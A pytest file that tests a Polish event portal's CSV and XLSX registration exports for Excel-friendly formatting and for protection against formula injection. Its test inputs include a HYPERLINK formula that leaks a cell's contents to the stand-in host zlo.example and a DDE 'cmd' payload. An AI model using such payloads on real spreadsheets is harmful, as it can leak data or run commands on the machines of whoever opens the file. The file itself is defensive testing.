"""The organisers' CSV and XLSX exports of registrations open in Polish Excel as the admin
shows them: Polish headings and labels, local times, the event's date, a CSV with semicolons
and a byte order mark; and what a visitor typed stays text, never a formula."""

import csv
import datetime
import io

import openpyxl
import pytest

from portal.events import booking
from portal.events.registrations import Registration
from tests.factories import warsaw

pytestmark = pytest.mark.django_db

TYPED = {
    "name": '=HYPERLINK("https://zlo.example/?d="&C2;"Kliknij")',
    "institution": "+48 cmd|' /C calc'!A0",
    "position": "@SUMA(1;1)",
    "needs_other": "-1+1",
}


@pytest.fixture
def booked(client, meeting):
    """A registration made through the public form, with formulas in four fields."""
    response = client.post(
        meeting.url + "zapis/",
        {
            **TYPED,
            "email": "anna@example.org",
            "institution_type": "wtz",
            "people": "1",
            "consent": "on",
        },
    )
    assert response.status_code == 302
    client.logout()


def download(client, export_format, query=""):
    response = client.get(f"/admin/registrations/?export={export_format}{query}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(content):
    """The rows of an exported CSV file, read as Polish Excel reads it (or fails the test)."""
    assert content.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte order mark
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headings, *rows = (list(cells) for cells in sheet.iter_rows(values_only=True))
    return [dict(zip(headings, row, strict=True)) for row in rows]


# 13:40 UTC on a November day is 14:40 in Warsaw (UTC+1), as the admin shows it.
REGISTERED_AT = datetime.datetime(2026, 11, 20, 13, 40, tzinfo=datetime.UTC)


def meeting_day():
    """The day of the `meeting` fixture (10:00–13:00 Warsaw time)."""
    return warsaw(days=7).date()


@pytest.fixture
def waiting_business(meeting):
    """A business on the waiting list of a one-seat meeting (next week, 10:00 Warsaw time),
    registered at 13:40 UTC, with a wheelchair."""
    meeting.capacity = 1
    meeting.save()
    data = {"language": "pl", "consent_version": "2026-11", "people": 1, "notify": False}
    booking.book_seat(meeting, name="Ala", email="ala@example.org", institution="WTZ", **data)
    business = {"name": "Zofia Łącka", "email": "zofia@example.org", "institution": "Firma Żółw"}
    business |= {"institution_type": "business", "needs_wheelchair": True}
    registration = booking.book_seat(meeting, **business, **data)
    Registration.objects.filter(pk=registration.pk).update(
        created_at=REGISTERED_AT, consented_at=REGISTERED_AT
    )
    return registration


def test_csv_export_reads_in_polish_excel_with_labels_and_local_times(
    client, organiser, waiting_business
):
    client.force_login(organiser)

    content = download(client, "csv", "&status=waiting")
    assert content.splitlines()[0].count(b";") >= 20  # one semicolon between each heading
    (row,) = csv_rows(content)

    assert row["Imię i nazwisko"] == "Zofia Łącka"
    assert row["Instytucja"] == "Firma Żółw"
    assert row["Status"] == "Na liście oczekujących"
    assert row["Rodzaj instytucji"] == "Firma"
    assert row["Dostęp dla wózka"] == "tak"
    assert row["Tłumacz polskiego języka migowego"] == "nie"
    assert row["Data wydarzenia"] == f"{meeting_day():%Y-%m-%d} 10:00"
    assert row["Data zgłoszenia"] == "2026-11-20 14:40"
    assert row["Wydarzenie"] == "Spotkanie w Poznaniu"


def test_xlsx_export_has_the_same_labels_and_local_times(client, organiser, waiting_business):
    client.force_login(organiser)

    (cells,) = xlsx_rows(download(client, "xlsx", "&status=waiting"))

    assert cells["Status"] == "Na liście oczekujących"
    assert cells["Rodzaj instytucji"] == "Firma"
    assert cells["Dostęp dla wózka"] == "tak"
    assert cells["Data wydarzenia"] == datetime.datetime.combine(meeting_day(), datetime.time(10))
    assert cells["Data zgłoszenia"] == datetime.datetime(2026, 11, 20, 14, 40)


def test_csv_export_of_registrations_carries_no_formula(client, organiser, booked):
    client.force_login(organiser)

    (row,) = csv_rows(download(client, "csv"))

    assert row["Imię i nazwisko"] == "'" + TYPED["name"]
    assert row["Instytucja"] == "'" + TYPED["institution"]
    assert row["Stanowisko"] == "'" + TYPED["position"]
    assert row["Inne potrzeby"] == "'" + TYPED["needs_other"]
    assert row["E-mail"] == "anna@example.org"  # ordinary text is left as it is


def test_xlsx_export_of_registrations_carries_no_formula(client, organiser, booked):
    client.force_login(organiser)

    (cells,) = xlsx_rows(download(client, "xlsx"))

    assert cells["Imię i nazwisko"] == "'" + TYPED["name"]
    assert cells["Instytucja"] == "'" + TYPED["institution"]
    assert cells["Stanowisko"] == "'" + TYPED["position"]
    assert cells["Inne potrzeby"] == "'" + TYPED["needs_other"]
    assert cells["E-mail"] == "anna@example.org"
